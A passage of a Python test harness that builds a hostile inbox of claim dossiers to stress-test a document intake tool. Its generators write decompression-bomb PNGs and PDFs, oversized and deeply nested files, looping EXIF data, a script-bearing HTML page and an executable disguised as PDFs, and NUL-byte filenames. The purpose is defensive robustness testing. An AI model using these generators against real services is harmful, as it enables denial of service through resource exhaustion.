#!/usr/bin/env python3
"""A hostile inbox for `intake run`, and the verdict on a run over it.

    hostile_inbox.py build DIR [--n 100] [--seed S]   write DIR/inbox, DIR/outside, DIR/expect.json
    hostile_inbox.py run   DIR [--n 100] [--seed S]   build (if needed) + `intake run --archive` + check
    hostile_inbox.py check DIR [--out OUT] [--archive ARCH]   the verdict on a finished run
    hostile_inbox.py clean DIR                         unmount DIR/outside, delete DIR

Layout of DIR:
    inbox/        ready dossiers (one attack each, or an ordinary dossier disguised), folders still
                  uploading, stray files
    outside/      canary files and a foreign dossier: nothing may read them (a strictatime tmpfs when
                  `mount` is allowed, so every read moves the atime; otherwise atime < mtime, which
                  relatime also updates on the first read)
    expect.json   what must hold for each inbox entry (beside the inbox, never inside it)
    .hostile/     the run's record: exit code, wall time, peak memory, stdout, stderr
    out/ archive/ the run's output and archive (defaults of `run` and `check`)

Expectations are strict (the contract makes the outcome certain: a FAIL) or soft (a disguise
should not change the decision: a WARN). Exit status of `check` and `run`: 0 PASS, 1 FAIL.
"""
from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import random
import re
import shutil
import struct
import subprocess
import sys
import threading
import time
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
SAMPLES = REPO / "sample_docs" / "inbox"
DECISIONS = ("accept", "request_documents", "illegible")
STATUS_FR = {"accept": "A traiter", "request_documents": "En attente de documents supplémentaires",
             "illegible": "Illisible"}
MEMORY_LIMIT = 2 * 1024 ** 3
RUN_TIMEOUT_S = 2400
SECRET = "CLIENT-SECRET"  # every client file name carries SECRET-<hex>: it must never reach the logs
OWN = {"inbox", "out", "archive", "outside", ".hostile", "expect.json"}  # DIR's top level after a run

# Ordinary dossiers of sample_docs: (folder, decision of sample_docs/truth)
ORDINARY = [("D-2017-052200", "accept"), ("D-2017-052206", "request_documents"),
            ("D-2017-052211", "accept"), ("D-2017-052215", "request_documents"),
            ("D-2017-052219", "accept")]
CS_PDF = SAMPLES / "D-2017-052200" / "scan3321.pdf"  # a scanned care sheet (accept with INV_PNG)
INV_PNG = SAMPLES / "D-2017-052200" / "facture.png"
CS_JPG = SAMPLES / "D-2017-052219" / "feuille soins santevet.jpg"  # a photographed care sheet (with INV_PDF)
INV_PDF = SAMPLES / "D-2017-052219" / "Facture.pdf"


# --- small file makers --------------------------------------------------------------------------

def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_uniform(width: int, height: int, color_type: int = 0, value: int = 255) -> bytes:
    """A PNG of one colour, 8 bits per sample, streamed through deflate (a bomb when large)."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
    row = b"\x00" + bytes([value]) * (width * channels)
    comp, parts = zlib.compressobj(9), []
    for _ in range(height):
        parts.append(comp.compress(row))
    parts.append(comp.flush())
    idat = b"".join(parts)
    out = [b"\x89PNG\r\n\x1a\n", _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0))]
    out += [_png_chunk(b"IDAT", idat[i:i + (1 << 20)]) for i in range(0, len(idat), 1 << 20)]
    out.append(_png_chunk(b"IEND", b""))
    return b"".join(out)


def make_pdf(objects: list[bytes]) -> bytes:
    """A PDF from its objects (object 1 is the catalog), with a correct xref table."""
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def pdf_page(content: bytes = b"", media: tuple[float, float] = (595, 842), extra: bytes = b"",
             filt: bytes = b"") -> bytes:
    w, h = media
    return make_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %g %g] /Contents 4 0 R %s >>" % (w, h, extra),
                     b"<< /Length %d %s >>\nstream\n" % (len(content), filt) + content + b"\nendstream"])


def pdf_blank_pages(n: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(n))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n)]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * n
    return make_pdf(objs)


def pdf_flate_bomb(mib: int) -> bytes:
    """One page whose content stream inflates to `mib` MiB of spaces."""
    comp, chunk, parts = zlib.compressobj(9), b" " * (1 << 20), []
    for _ in range(mib):
        parts.append(comp.compress(chunk))
    parts.append(comp.flush())
    return pdf_page(b"".join(parts), filt=b"/Filter /FlateDecode")


def jpeg_segments(data: bytes) -> tuple[list[bytes], bytes]:
    """A JPEG's header segments (marker included) up to SOS, and the rest (SOS onwards)."""
    assert data[:2] == b"\xff\xd8"
    i, segs = 2, []
    while data[i] == 0xFF and data[i + 1] != 0xDA:
        n = struct.unpack(">H", data[i + 2:i + 4])[0]
        segs.append(data[i:i + 2 + n])
        i += 2 + n
    return segs, data[i:]


def jpeg_with(data: bytes, app1: list[bytes] = (), sof_size: tuple[int, int] | None = None) -> bytes:
    """The JPEG with its EXIF (APP1) segments replaced by `app1` payloads, and the SOF's size patched."""
    segs, rest = jpeg_segments(data)
    keep = [s for s in segs if s[1] != 0xE1]
    if sof_size:
        for k, s in enumerate(keep):
            if s[1] in (0xC0, 0xC1, 0xC2):
                h, w = sof_size
                keep[k] = s[:5] + struct.pack(">HH", h, w) + s[9:]
    new = [b"\xff\xe1" + struct.pack(">H", len(p) + 2) + p for p in app1]
    return b"\xff\xd8" + b"".join(keep[:1] + new + keep[1:]) + rest


def exif(entries: list[tuple[int, int, int, bytes]], count: int | None = None, next_ifd: int = 0,
         tail: bytes = b"") -> bytes:
    """An EXIF APP1 payload: little-endian TIFF, one IFD of (tag, type, count, 4-byte value) entries."""
    ifd = struct.pack("<H", len(entries) if count is None else count)
    for tag, typ, cnt, value in entries:
        ifd += struct.pack("<HHI", tag, typ, cnt) + value.ljust(4, b"\x00")[:4]
    return b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", next_ifd) + tail


def pil_bytes(path: Path, fmt: str, convert: str | None = None, op=None, **save) -> bytes:
    from PIL import Image
    with Image.open(path) as im:
        im.load()
        if convert:
            im = im.convert(convert)
        if op:
            im = op(im)
        buf = io.BytesIO()
        im.save(buf, fmt, **save)
        return buf.getvalue()


def png_gray16(path: Path) -> bytes:
    """The image as a 16-bit greyscale PNG (Pillow writes none)."""
    import numpy as np
    from PIL import Image
    with Image.open(path) as im:
        a = np.asarray(im.convert("L"), dtype=">u2") * 257
    rows = np.concatenate([np.zeros((a.shape[0], 1), dtype=np.uint8), a.view(np.uint8)], axis=1)
    ihdr = struct.pack(">IIBBBBB", a.shape[1], a.shape[0], 16, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", zlib.compress(rows.tobytes(), 6))
            + _png_chunk(b"IEND", b""))


def transparent_background(im):
    """Ink kept black and opaque, paper made fully transparent (its RGB black, as many tools write)."""
    from PIL import Image
    gray = im.convert("L")
    alpha = gray.point(lambda v: 255 - v)
    out = Image.new("RGBA", im.size, (0, 0, 0, 0))
    out.putalpha(alpha)
    return out


def qpdf_encrypt(src: bytes, user: str, owner: str, bits: int) -> bytes:
    """`src` encrypted by qpdf (user password `user`, empty = opens without one)."""
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        a, b = Path(tmp, "a.pdf"), Path(tmp, "b.pdf")
        a.write_bytes(src)
        extra = ["--allow-weak-crypto"] if bits < 256 else []
        subprocess.run(["qpdf", *extra, "--encrypt", user, owner, str(bits), "--", str(a), str(b)], check=True)
        return b.read_bytes()


# --- the build ----------------------------------------------------------------------------------

def fs(name: str | bytes) -> str:
    """A folder name as the os module takes it (bytes names via surrogateescape)."""
    return os.fsdecode(name) if isinstance(name, bytes) else name


def shown(name: str) -> str:
    return repr(name.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace"))[1:-1]


@dataclass
class Builder:
    root: Path
    rng: random.Random
    entries: list[dict] = field(default_factory=list)
    canaries: dict[str, dict] = field(default_factory=dict)
    secrets: dict[str, str] = field(default_factory=dict)  # token -> folder shown
    cache: dict[str, bytes] = field(default_factory=dict)

    @property
    def inbox(self) -> Path:
        return self.root / "inbox"

    @property
    def outside(self) -> Path:
        return self.root / "outside"

    def token(self, owner: str) -> str:
        tok = f"{SECRET}-{self.rng.getrandbits(32):08x}"
        self.secrets[tok] = owner
        return tok

    def secret(self, owner: str, stem: str, ext: str) -> str:
        return f"{self.token(owner)}-{stem}{ext}"

    def canary(self, owner: str) -> Path:
        """A canary file outside the inbox, for the attack of folder `owner`."""
        name = f"canary-{len(self.canaries):03d}.txt"
        content = f"canary of {owner}: nobody reads this\n".encode("utf-8", "surrogateescape") * 8
        path = self.outside / name
        path.write_bytes(content)
        self.canaries[name] = {"owner": owner, "sha256": hashlib.sha256(content).hexdigest()}
        return path

    def bytes_of(self, key: str, make) -> bytes:
        if key not in self.cache:
            self.cache[key] = make()
        return self.cache[key]

    def folder(self, name: str | bytes) -> Path:
        d = self.inbox / fs(name)
        d.mkdir(parents=True)
        return d

    def write_manifest(self, d: Path, docs: list[tuple[str, str]] | None, dossier_id=None, raw: bytes | None = None,
                       **fields) -> None:
        if raw is None:
            readable = d.name.encode("utf-8", "surrogateescape").decode("utf-8", "replace")
            body = {"dossier_id": readable if dossier_id is None else dossier_id,
                    "submitted_at": "2017-09-10T10:29:00+02:00", "contract_number": "SV-2073-8271",
                    "animal_name": "Jazz", "description": f"Vaccins {self.token(shown(d.name))}",
                    "documents": [{"file": f, "slot": s} for f, s in docs or []]}
            body.update(fields)
            raw = json.dumps(body, ensure_ascii=False, indent=1).encode("utf-8")
        (d / "manifest.json").write_bytes(raw)

    def ready(self, name: str | bytes, family: str, attack: str, decision=None, reasons=(), forbid=(),
              strict: bool = True, note: str = "") -> None:
        self.entries.append({"name": fs(name), "kind": "ready", "family": family, "attack": attack,
                             "decision": list(decision) if decision else None, "reasons": list(reasons),
                             "forbid": list(forbid), "strict": strict, "note": note})

    def other(self, name: str | bytes, kind: str, family: str, attack: str) -> None:
        self.entries.append({"name": fs(name), "kind": kind, "family": family, "attack": attack})

    def base(self, name: str | bytes, family: str, attack: str, which: str = "A",
             replace: dict[str, tuple[str, bytes]] | None = None, extra: list[tuple[str, bytes, str]] = (),
             decision=("accept",), reasons=(), forbid=(), strict: bool = False, manifest_fields=None,
             docs_override=None) -> Path:
        """An ordinary two-document dossier (A: scanned care sheet PDF + PNG invoice; B: photographed
        care sheet JPEG + text PDF invoice), a role replaced or files added. Soft expectation by default."""
        d = self.folder(name)
        owner = shown(d.name)
        roles = {"A": {"cs": (CS_PDF, "care_sheet"), "inv": (INV_PNG, "invoice")},
                 "B": {"cs": (CS_JPG, "care_sheet"), "inv": (INV_PDF, "invoice")}}[which]
        docs = []
        for role, (src, slot) in roles.items():
            if replace and role in replace:
                fname, data = replace[role]
            else:
                fname, data = self.secret(owner, role, src.suffix), src.read_bytes()
            if data is not None:
                (d / fname).write_bytes(data)
            docs.append((fname, slot))
        for fname, data, slot in extra:
            if data is not None:
                (d / fname).write_bytes(data)
            docs.append((fname, slot))
        self.write_manifest(d, docs_override if docs_override is not None else docs, **(manifest_fields or {}))
        self.ready(name, family, attack, decision, reasons, forbid, strict)
        return d


ILLEGIBLE = dict(decision=("illegible",), reasons=("FILE_UNREADABLE",), strict=True)
READ_IT = dict(decision=("accept",), forbid=("FILE_UNREADABLE",), strict=False)


def _n(b: Builder, tag: str) -> str:
    return f"H-{tag}"


# Each attack: (family, name, function(builder)). Order inside a family = priority when --n is small.
ATTACKS: list[tuple[str, str, object]] = []


def attack(family: str, name: str):
    def deco(fn):
        ATTACKS.append((family, name, fn))
        return fn
    return deco


# ordinary ---------------------------------------------------------------------------------------
def _ordinary(k: int):
    src, truth = ORDINARY[k]

    def fn(b: Builder) -> None:
        name = f"D-2017-9{k:05d}"
        d = b.folder(name)
        m = json.loads((SAMPLES / src / "manifest.json").read_text(encoding="utf-8"))
        docs = []
        for doc in m["documents"]:
            f = Path(doc["file"])
            new = b.secret(name, f.stem.replace(" ", "_"), f.suffix)
            shutil.copyfile(SAMPLES / src / doc["file"], d / new)
            docs.append((new, doc["slot"]))
        b.write_manifest(d, docs)
        b.ready(name, "ordinary", f"copy of {src}", decision=(truth,), strict=False, note="truth of sample_docs")
    return fn


for _k in range(len(ORDINARY)):
    attack("ordinary", f"ordinary-{_k}")(_ordinary(_k))


# corrupt ----------------------------------------------------------------------------------------
@attack("corrupt", "pdf-random-body")
def _(b):
    b.base(_n(b, "corrupt-pdf-random"), "corrupt", "%PDF- header then random bytes as the care sheet",
           replace={"cs": (b.secret("H-corrupt-pdf-random", "cs", ".pdf"), b"%PDF-1.7\n" + b.rng.randbytes(40000))},
           **ILLEGIBLE)


@attack("corrupt", "jpg-random")
def _(b):
    b.base(_n(b, "corrupt-jpg-random"), "corrupt", "random bytes named .jpg as the care sheet", which="B",
           replace={"cs": (b.secret("H-corrupt-jpg-random", "cs", ".jpg"), b.rng.randbytes(30000))}, **ILLEGIBLE)


@attack("corrupt", "pdf-truncated")
def _(b):
    data = CS_PDF.read_bytes()
    b.base(_n(b, "corrupt-pdf-truncated"), "corrupt", "care sheet PDF cut at 40 %",
           replace={"cs": (b.secret("H-corrupt-pdf-truncated", "cs", ".pdf"), data[:len(data) * 2 // 5])},
           decision=None)


@attack("corrupt", "jpg-truncated")
def _(b):
    data = CS_JPG.read_bytes()
    b.base(_n(b, "corrupt-jpg-truncated"), "corrupt", "care sheet JPEG cut at 50 %", which="B",
           replace={"cs": (b.secret("H-corrupt-jpg-truncated", "cs", ".jpg"), data[:len(data) // 2])}, decision=None)


@attack("corrupt", "png-truncated")
def _(b):
    data = INV_PNG.read_bytes()
    b.base(_n(b, "corrupt-png-truncated"), "corrupt", "invoice PNG cut at 30 %",
           replace={"inv": (b.secret("H-corrupt-png-truncated", "inv", ".png"), data[:len(data) * 3 // 10])},
           decision=None)


@attack("corrupt", "png-bad-crc")
def _(b):
    data = bytearray(INV_PNG.read_bytes())
    for i in range(2000, len(data), 997):
        data[i] ^= 0x5A
    b.base(_n(b, "corrupt-png-flipped"), "corrupt", "invoice PNG with bytes flipped in IDAT (bad CRCs)",
           replace={"inv": (b.secret("H-corrupt-png-flipped", "inv", ".png"), bytes(data))}, decision=None)


@attack("corrupt", "pdf-no-xref")
def _(b):
    data = CS_PDF.read_bytes().replace(b"startxref", b"startxXXX").replace(b"xref", b"xXXX")
    b.base(_n(b, "corrupt-pdf-noxref"), "corrupt", "care sheet PDF with xref and startxref smashed",
           replace={"cs": (b.secret("H-corrupt-pdf-noxref", "cs", ".pdf"), data)}, decision=None)


@attack("corrupt", "jpg-header-only")
def _(b):
    b.base(_n(b, "corrupt-jpg-header"), "corrupt", "JPEG of its first 700 bytes (headers, no scan)", which="B",
           replace={"cs": (b.secret("H-corrupt-jpg-header", "cs", ".jpg"), CS_JPG.read_bytes()[:700])},
           decision=None)


# disguised --------------------------------------------------------------------------------------
@attack("disguised", "pdf-as-jpg")
def _(b):
    b.base(_n(b, "disg-pdf-as-jpg"), "disguised", "the care sheet PDF named .jpg (read by content)",
           replace={"cs": (b.secret("H-disg-pdf-as-jpg", "cs", ".jpg"), CS_PDF.read_bytes())}, **READ_IT)


@attack("disguised", "html-as-pdf")
def _(b):
    html = b"<!DOCTYPE html><html><body><h1>Facture</h1><script>alert(1)</script></body></html>\n" * 20
    b.base(_n(b, "disg-html-as-pdf"), "disguised", "an HTML page named .pdf as the invoice",
           replace={"inv": (b.secret("H-disg-html-as-pdf", "inv", ".pdf"), html)}, **ILLEGIBLE)


@attack("disguised", "zip-as-pdf")
def _(b):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("facture.pdf", INV_PDF.read_bytes())
    b.base(_n(b, "disg-zip-as-pdf"), "disguised", "a ZIP (holding a PDF) named .pdf as the invoice", which="B",
           replace={"inv": (b.secret("H-disg-zip-as-pdf", "inv", ".pdf"), buf.getvalue())}, **ILLEGIBLE)


@attack("disguised", "elf-as-pdf")
def _(b):
    b.base(_n(b, "disg-elf-as-pdf"), "disguised", "an ELF executable named .pdf as the invoice",
           replace={"inv": (b.secret("H-disg-elf-as-pdf", "inv", ".pdf"), Path("/bin/true").read_bytes())},
           **ILLEGIBLE)


@attack("disguised", "empty-pdf")
def _(b):
    b.base(_n(b, "disg-empty-pdf"), "disguised", "an empty file named .pdf as the invoice",
           replace={"inv": (b.secret("H-disg-empty-pdf", "inv", ".pdf"), b"")}, **ILLEGIBLE)


@attack("disguised", "text-as-pdf")
def _(b):
    b.base(_n(b, "disg-text-as-pdf"), "disguised", "a text file named .pdf as the invoice",
           replace={"inv": (b.secret("H-disg-text-as-pdf", "inv", ".pdf"),
                            "Facture n° 12\nTotal TTC 84,00 €\n".encode() * 50)}, **ILLEGIBLE)


@attack("disguised", "gif-as-png")
def _(b):
    b.base(_n(b, "disg-gif-as-png"), "disguised", "the invoice as a real GIF named .png (not PDF/JPEG/PNG)",
           replace={"inv": (b.secret("H-disg-gif-as-png", "inv", ".png"),
                            b.bytes_of("gif", lambda: pil_bytes(INV_PNG, "GIF", "L")))}, **ILLEGIBLE)


@attack("disguised", "png-as-jpg")
def _(b):
    b.base(_n(b, "disg-png-as-jpg"), "disguised", "the invoice PNG named .jpg (read by content)",
           replace={"inv": (b.secret("H-disg-png-as-jpg", "inv", ".jpg"), INV_PNG.read_bytes())}, **READ_IT)


@attack("disguised", "bmp-as-jpg")
def _(b):
    b.base(_n(b, "disg-bmp-as-jpg"), "disguised", "the care sheet as a real BMP named .jpg (not PDF/JPEG/PNG)",
           which="B", replace={"cs": (b.secret("H-disg-bmp-as-jpg", "cs", ".jpg"),
                                      b.bytes_of("bmp", lambda: pil_bytes(CS_JPG, "BMP", "L")))}, **ILLEGIBLE)


@attack("disguised", "no-extension")
def _(b):
    b.base(_n(b, "disg-no-ext"), "disguised", "the care sheet PDF with no extension, the invoice .PNG upper-case",
           replace={"cs": (b.secret("H-disg-no-ext", "cs", ""), CS_PDF.read_bytes()),
                    "inv": (b.secret("H-disg-no-ext", "inv", ".PNG"), INV_PNG.read_bytes())}, **READ_IT)


@attack("disguised", "jpg-as-pdf")
def _(b):
    b.base(_n(b, "disg-jpg-as-pdf"), "disguised", "the care sheet JPEG named .pdf (read by content)", which="B",
           replace={"cs": (b.secret("H-disg-jpg-as-pdf", "cs", ".pdf"), CS_JPG.read_bytes())}, **READ_IT)


# encrypted --------------------------------------------------------------------------------------
@attack("encrypted", "user-password-aes256")
def _(b):
    b.base(_n(b, "enc-user-aes256"), "encrypted", "care sheet PDF with a user password (AES-256)",
           replace={"cs": (b.secret("H-enc-user-aes256", "cs", ".pdf"),
                           qpdf_encrypt(CS_PDF.read_bytes(), "secret-user", "secret-owner", 256))}, **ILLEGIBLE)


@attack("encrypted", "owner-only-aes256")
def _(b):
    b.base(_n(b, "enc-owner-aes256"), "encrypted", "care sheet PDF with an owner password only (AES-256): read it",
           replace={"cs": (b.secret("H-enc-owner-aes256", "cs", ".pdf"),
                           qpdf_encrypt(CS_PDF.read_bytes(), "", "secret-owner", 256))},
           decision=("accept",), forbid=("FILE_UNREADABLE",), strict=True)


@attack("encrypted", "user-password-rc4")
def _(b):
    b.base(_n(b, "enc-user-rc4"), "encrypted", "invoice PDF with a user password (RC4 40 bits)", which="B",
           replace={"inv": (b.secret("H-enc-user-rc4", "inv", ".pdf"),
                            qpdf_encrypt(INV_PDF.read_bytes(), "u", "o", 40))}, **ILLEGIBLE)


@attack("encrypted", "owner-only-rc4")
def _(b):
    b.base(_n(b, "enc-owner-rc4"), "encrypted", "text-layer invoice PDF, owner password only (RC4 128): read it",
           which="B", replace={"inv": (b.secret("H-enc-owner-rc4", "inv", ".pdf"),
                                       qpdf_encrypt(INV_PDF.read_bytes(), "", "o", 128))},
           decision=("accept",), forbid=("FILE_UNREADABLE",), strict=True)


# resource ---------------------------------------------------------------------------------------
@attack("resource", "png-bomb-30000")
def _(b):
    b.base(_n(b, "res-png-30000"), "resource", "an extra 30000×30000 grey PNG of one colour (0.9 Gpx)",
           extra=[(b.secret("H-res-png-30000", "photo", ".png"), png_uniform(30000, 30000), "other")], decision=None)


@attack("resource", "pdf-flate-bomb")
def _(b):
    b.base(_n(b, "res-flate-bomb"), "resource", "an extra PDF whose content stream inflates to 1 GiB",
           extra=[(b.secret("H-res-flate-bomb", "annexe", ".pdf"), pdf_flate_bomb(1024), "other")], decision=None)


@attack("resource", "jpg-huge-dimensions")
def _(b):
    b.base(_n(b, "res-jpg-65535"), "resource", "an extra JPEG whose SOF declares 65535×65535", which="B",
           extra=[(b.secret("H-res-jpg-65535", "photo", ".jpg"), jpeg_with(CS_JPG.read_bytes(), sof_size=(65535, 65535)),
                   "other")], decision=None)


@attack("resource", "pdf-2000-pages")
def _(b):
    b.base(_n(b, "res-pdf-2000p"), "resource", "an extra PDF of 2000 blank pages",
           extra=[(b.secret("H-res-pdf-2000p", "annexe", ".pdf"), pdf_blank_pages(2000), "other")], decision=None)


@attack("resource", "pdf-5m-page")
def _(b):
    b.base(_n(b, "res-pdf-5m"), "resource", "an extra one-page PDF of 5 m × 5 m (14173 pt)",
           extra=[(b.secret("H-res-pdf-5m", "plan", ".pdf"), pdf_page(b"0 0 m 14000 14000 l S", (14173, 14173)),
                   "other")], decision=None)


@attack("resource", "pdf-deep-nesting")
def _(b):
    nest = b"/Nest " + b"[" * 100000 + b"]" * 100000
    b.base(_n(b, "res-pdf-nested"), "resource", "an extra PDF whose page holds arrays nested 100000 deep",
           extra=[(b.secret("H-res-pdf-nested", "annexe", ".pdf"), pdf_page(b"", extra=nest), "other")],
           decision=None)


@attack("resource", "png-rgb-12000")
def _(b):
    b.base(_n(b, "res-png-12000"), "resource", "an extra 12000×12000 RGB PNG (144 Mpx, under Pillow's hard limit)",
           extra=[(b.secret("H-res-png-12000", "photo", ".png"), png_uniform(12000, 12000, 2, 200), "other")],
           decision=None)


# exif -------------------------------------------------------------------------------------------
def _exif_attack(tag: str, what: str, payloads):
    def fn(b):
        b.base(_n(b, f"exif-{tag}"), "exif", what, which="B",
               replace={"cs": (b.secret(f"H-exif-{tag}", "cs", ".jpg"), jpeg_with(CS_JPG.read_bytes(), payloads(b)))},
               **READ_IT)
    attack("exif", tag)(fn)


_exif_attack("garbage", "care sheet photo whose EXIF is random bytes", lambda b: [b"Exif\x00\x00" + b.rng.randbytes(3000)])
_exif_attack("orient0", "care sheet photo with EXIF orientation 0", lambda b: [exif([(0x112, 3, 1, struct.pack("<H", 0))])])
_exif_attack("orient9", "care sheet photo with EXIF orientation 9", lambda b: [exif([(0x112, 3, 1, struct.pack("<H", 9))])])
_exif_attack("orient-str", "care sheet photo with EXIF orientation as the string 'six'",
             lambda b: [exif([(0x112, 2, 4, b"six\x00")])])
_exif_attack("ifd-loop", "care sheet photo whose EXIF IFD chain points to itself",
             lambda b: [exif([(0x112, 3, 1, struct.pack("<H", 6))], next_ifd=8)])
_exif_attack("huge-counts", "EXIF claiming 65535 entries and a LONG array of 2^30 values",
             lambda b: [exif([(0x112, 4, 1 << 30, struct.pack("<I", 8))] * 50, count=65535)])
_exif_attack("huge-many", "200 APP1 EXIF segments of 64 KB each (13 MB of EXIF)",
             lambda b: [exif([(0x112, 3, 1, struct.pack("<H", 1))], tail=b.rng.randbytes(65400))] * 200)


# image shapes -----------------------------------------------------------------------------------
@attack("image", "png-alpha-opaque")
def _(b):
    b.base(_n(b, "img-alpha-opaque"), "image", "invoice PNG as RGBA, alpha 255 everywhere",
           replace={"inv": (b.secret("H-img-alpha-opaque", "inv", ".png"), pil_bytes(INV_PNG, "PNG", "RGBA"))},
           **READ_IT)


@attack("image", "png-transparent-paper")
def _(b):
    b.base(_n(b, "img-alpha-paper"), "image", "invoice PNG: black ink on a fully transparent (RGB black) paper",
           replace={"inv": (b.secret("H-img-alpha-paper", "inv", ".png"),
                            pil_bytes(INV_PNG, "PNG", op=transparent_background))}, **READ_IT)


@attack("image", "png-1x1")
def _(b):
    b.base(_n(b, "img-1x1"), "image", "an extra 1×1 PNG",
           extra=[(b.secret("H-img-1x1", "photo", ".png"), png_uniform(1, 1), "other")], **READ_IT)


@attack("image", "png-1x5000")
def _(b):
    b.base(_n(b, "img-1x5000"), "image", "an extra 1×5000 PNG and a 5000×1 PNG",
           extra=[(b.secret("H-img-1x5000", "photo", ".png"), png_uniform(1, 5000, 0, 0), "other"),
                  (b.secret("H-img-1x5000", "photo2", ".png"), png_uniform(5000, 1, 0, 0), "other")], **READ_IT)


@attack("image", "png-16bit")
def _(b):
    b.base(_n(b, "img-16bit"), "image", "invoice PNG as 16-bit greyscale",
           replace={"inv": (b.secret("H-img-16bit", "inv", ".png"), png_gray16(INV_PNG))}, **READ_IT)


@attack("image", "jpg-cmyk")
def _(b):
    b.base(_n(b, "img-cmyk"), "image", "care sheet photo as a CMYK JPEG", which="B",
           replace={"cs": (b.secret("H-img-cmyk", "cs", ".jpg"), pil_bytes(CS_JPG, "JPEG", "CMYK", quality=90))},
           **READ_IT)


@attack("image", "png-palette")
def _(b):
    b.base(_n(b, "img-palette"), "image", "invoice PNG as a 16-colour palette image with transparency",
           replace={"inv": (b.secret("H-img-palette", "inv", ".png"),
                            pil_bytes(INV_PNG, "PNG", op=lambda im: im.convert("P", palette=1, colors=16),
                                      transparency=0))}, **READ_IT)


@attack("image", "jpg-progressive")
def _(b):
    b.base(_n(b, "img-progressive"), "image", "care sheet photo as a progressive greyscale JPEG", which="B",
           replace={"cs": (b.secret("H-img-progressive", "cs", ".jpg"),
                           pil_bytes(CS_JPG, "JPEG", "L", progressive=True, quality=85))}, **READ_IT)


@attack("image", "la-png")
def _(b):
    b.base(_n(b, "img-la"), "image", "invoice PNG as greyscale + alpha (LA)",
           replace={"inv": (b.secret("H-img-la", "inv", ".png"), pil_bytes(INV_PNG, "PNG", "LA"))}, **READ_IT)


# manifest ---------------------------------------------------------------------------------------
MANIFEST_BAD = dict(decision=("request_documents", "illegible"), reasons=("MANIFEST_INVALID",), strict=True)


def _manifest_raw(tag: str, what: str, raw, expect=None):
    def fn(b):
        name = _n(b, f"man-{tag}")
        d = b.base(name, "manifest", what, decision=None)
        files = sorted(p.name for p in d.iterdir() if p.name != "manifest.json")
        good = json.dumps({"dossier_id": name, "submitted_at": "2017-09-10T10:29:00+02:00",
                           "documents": [{"file": files[0], "slot": "care_sheet"}, {"file": files[1], "slot": "invoice"}]},
                          ensure_ascii=False)
        (d / "manifest.json").write_bytes(raw(b, name, good, files))
        b.entries[-1].update({"decision": None, "reasons": [], "forbid": [], "strict": True, **(expect or {})})
        if "decision" in (expect or {}):
            b.entries[-1]["decision"] = list(expect["decision"])
    attack("manifest", tag)(fn)


_manifest_raw("truncated-json", "manifest.json cut before its end (invalid JSON)",
              lambda b, n, g, f: g[:-12].encode(), MANIFEST_BAD)
_manifest_raw("deep-nesting", "documents nested 100000 levels deep",
              lambda b, n, g, f: ('{"dossier_id": "%s", "documents": ' % n + "[" * 100000 + "]" * 100000 + "}").encode(),
              MANIFEST_BAD)
_manifest_raw("top-level-array", "the manifest is a JSON array", lambda b, n, g, f: f"[{g}]".encode(), MANIFEST_BAD)
_manifest_raw("documents-string", "documents is a string, not a list",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": f[0]}).encode(), MANIFEST_BAD)
_manifest_raw("not-utf8", "manifest in Latin-1 (é as one byte)",
              lambda b, n, g, f: g.replace('"documents"', '"description": "Blessure à la patte", "documents"').encode("latin-1"))
_manifest_raw("bom", "manifest with a UTF-8 byte-order mark", lambda b, n, g, f: b"\xef\xbb\xbf" + g.encode())
_manifest_raw("utf16", "manifest in UTF-16", lambda b, n, g, f: g.encode("utf-16"))
_manifest_raw("5mb", "a valid 5 MB manifest (a 5 MB description)",
              lambda b, n, g, f: g.replace('"documents"', '"description": "%s", "documents"' % ("x" * 5_000_000)).encode())
_manifest_raw("empty-file", "manifest.json is empty", lambda b, n, g, f: b"", MANIFEST_BAD)
_manifest_raw("wrong-types", "dossier_id 12345, submitted_at true, slot 42, file null",
              lambda b, n, g, f: json.dumps({"dossier_id": 12345, "submitted_at": True, "contract_number": ["x"],
                                             "documents": [{"file": f[0], "slot": 42}, {"file": None, "slot": "invoice"},
                                                           {"file": f[1]}]}).encode())
_manifest_raw("entries-strings", "documents as bare file names",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": f}).encode())
_manifest_raw("nul-in-names", "file names holding NUL (\\u0000)",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": f[0] + "\u0000.exe", "slot": "care_sheet"}, {"file": f[1], "slot": "invoice"}]}).encode())
_manifest_raw("lone-surrogates", "dossier_id, animal and a file name with lone surrogates (\\ud800 escapes)",
              lambda b, n, g, f: ('{"dossier_id": "%s-\\ud800", "animal_name": "Rex\\udfff", "documents": '
                                  '[{"file": "%s", "slot": "care_sheet"}, {"file": "%s", "slot": "invoice"},'
